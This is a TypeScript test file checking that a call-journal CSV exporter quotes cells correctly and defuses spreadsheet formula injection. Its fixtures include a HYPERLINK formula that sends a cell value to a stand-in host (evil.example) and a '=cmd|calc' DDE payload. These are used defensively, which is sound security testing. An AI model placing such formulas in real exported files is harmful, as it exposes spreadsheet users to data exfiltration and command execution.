// CSV: read back by csv-parse (an independent RFC 4180 parser), the cells
// equal what went in — commas, quotes, newlines, Cyrillic, emoji, formula
// payloads — apart from the neutralising ' before a formula trigger; no text
// cell starts with a trigger; numbers stay numbers.
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { callRowWriter, flagRowWriter, isFormulaTrigger, numberCell, textCell, type CsvDialect } from '../../src/export/csv.js';
import { FlagStatusIndex } from '../../src/export/flag-status.js';
import { zoneClock } from '../../src/export/zone.js';
import type { CallEntry } from '../../src/journal/types.js';

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '-1+1',
  '@SUM(A1:A9)',
  '\t=1',
  '＝1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '+7 916 123-45-67',
  '\r=1',
  '\n=1',
  'Андрей "Дрюня" Иванович, кухня',
  'line one\nline two\r\nline three',
  'emoji 😀👍🏽 and 👨‍👩‍👧',
  'semi;colon',
  '',
  "'already quoted",
];
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];

/** What a reader must get back: the input, with ' before a formula trigger (written here independently of the code). */
function neutralised(input: string): string {
  return TRIGGERS.some((t) => input.startsWith(t)) ? `'${input}` : input;
}

const textArb = fc.oneof(
  fc.constantFrom(...PAYLOADS),
  fc.constantFrom("'=1", "'", "''@x"),
  fc.string({ unit: 'grapheme', maxLength: 30 }),
  fc.tuple(fc.constantFrom(...TRIGGERS), fc.string({ unit: 'grapheme', maxLength: 12 })).map(([a, b]) => a + b),
  fc.string({ unit: fc.constantFrom('a', 'я', ',', ';', '"', '\n', '\r', ' ', '😀', '=', '-'), maxLength: 20 }),
);

function call(fields: { id: string; name: string; note: string; answer: string; summary: string; salesperson: string; duration: number }): CallEntry {
  return {
    v: 1, type: 'call', id: fields.id, at: '2026-11-28T11:05:00.000Z',
    client: { id: 'c1', name: fields.name, phone: '+7 916 000-00-00' },
    salesperson: fields.salesperson,
    script: { id: 'kitchen-furniture', version: 'v1' },
    startedAt: '2026-11-28T11:02:00.000Z', endedAt: '2026-11-28T11:05:00.000Z', durationSec: fields.duration,
    outcome: 'completed',
    steps: [{ id: 'remind', answer: fields.answer }, { id: 'impression', answer: 'fine', note: fields.note }],
    flags: [], gaps: [], summary: fields.summary, nextCall: null,
  };
}

describe('CSV cells', () => {
  it('quotes and doubles quotes only where RFC 4180 needs it', () => {
    expect(textCell('plain')).toBe('plain');
    expect(textCell('a,b')).toBe('"a,b"');
    expect(textCell('say "hi"')).toBe('"say ""hi"""');
    expect(textCell('two\nlines')).toBe('"two\nlines"');
    expect(textCell('a;b', ';')).toBe('"a;b"');
    expect(textCell('a,b', ';')).toBe('a,b');
  });
  it('neutralises every formula trigger, ASCII and full-width', () => {
    for (const trigger of TRIGGERS) expect(textCell(`${trigger}1`).replace(/^"/, '')).toMatch(/^'/);
    expect(textCell('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
    expect(textCell('＝1')).toBe("'＝1");
    expect(textCell('1=1')).toBe('1=1');
  });
  it('keeps numbers as numbers, negative ones too', () => {
    expect(numberCell(171)).toBe('171');
    expect(numberCell(-5)).toBe('-5');
    expect(numberCell(undefined)).toBe('');
    expect(numberCell(Number.NaN)).toBe('');
  });
});

describe('CSV rows read back by csv-parse', () => {
  const clock = zoneClock('Europe/Moscow');
  for (const dialect of [{ separator: ',', excel: false }, { separator: ';', excel: true }] as CsvDialect[]) {
    it(`round-trips names, notes and answers (separator ${dialect.separator})`, () => {
      fc.assert(
        fc.property(textArb, textArb, textArb, textArb, textArb, fc.integer({ min: 0, max: 100_000 }), (name, note, answer, summary, salesperson, duration) => {
          const writer = callRowWriter({
            stepKeys: ['remind', 'impression'], dialect, clock, flags: new FlagStatusIndex(),
            header: (c) => (c === 'answer' ? 'answer:' : c), yesNo: (v) => (v ? 'yes' : 'no'),
          });
          const text = `${writer.header}\r\n${writer.row(call({ id: 'C1', name, note, answer, summary, salesperson, duration }))}\r\n`;
          const records = parse(text, { delimiter: dialect.separator, relax_column_count: false, bom: true }) as string[][];
          expect(records).toHaveLength(2);
          const [header, row] = records as [string[], string[]];
          const cell = (column: string) => row[header.indexOf(column)]!;
          // Every text cell: no trigger at its start.
          for (const value of row) expect(isFormulaTrigger(value), JSON.stringify(value)).toBe(false);
          // The values come back, apart from the neutralising prefix.
          expect(cell('client_name')).toBe(neutralised(name));
          expect(cell('salesperson')).toBe(neutralised(salesperson));
          expect(cell('summary')).toBe(neutralised(summary));
          expect(cell('answer:remind')).toBe(neutralised(answer));
          expect(cell('notes')).toBe(note ? `impression: ${note}` : '');
          expect(cell('duration_sec')).toBe(String(duration));
          expect(Number(cell('duration_sec'))).toBe(duration);
        }),
        { numRuns: 400 },
      );
    });
  }

  it('writes flag rows with the current status and resolution note', () => {
    const flags = new FlagStatusIndex();
    flags.learn({ v: 1, type: 'flag', id: 'U1', at: '2026-11-30T10:00:00Z', flag: 'F1', status: 'resolved', note: '=cmd|calc' });
    const entry = call({ id: 'C1', name: 'Андрей, "Дрюня"', note: '', answer: 'a', summary: 's', salesperson: 'S', duration: 1 });
    entry.flags = [
      { id: 'F1', step: 'impression', text: 'Door, "90°"\nnot 180°', owner: 'senior assembler', due: '2026-11-29', status: 'open' },
      { id: 'F2', step: 'impression', text: '@boss', owner: 'delivery', due: '2026-11-30', status: 'open' },
    ];
    const writer = flagRowWriter({ dialect: { separator: ',', excel: false }, flags, header: (c) => c, status: (s) => s });
    const records = parse(`${writer.header}\r\n${writer.rows(entry)}`, {}) as string[][];
    expect(records[0]).toEqual(['flag_id', 'call_id', 'client_id', 'client_name', 'step', 'text', 'owner', 'promise', 'due', 'status', 'resolution_note']);
    expect(records[1]).toEqual(['F1', 'C1', 'c1', 'Андрей, "Дрюня"', 'impression', 'Door, "90°"\nnot 180°', 'senior assembler', '', '2026-11-29', 'resolved', "'=cmd|calc"]);
    expect(records[2]).toEqual(['F2', 'C1', 'c1', 'Андрей, "Дрюня"', 'impression', "'@boss", 'delivery', '', '2026-11-30', 'open', '']);
  });
});
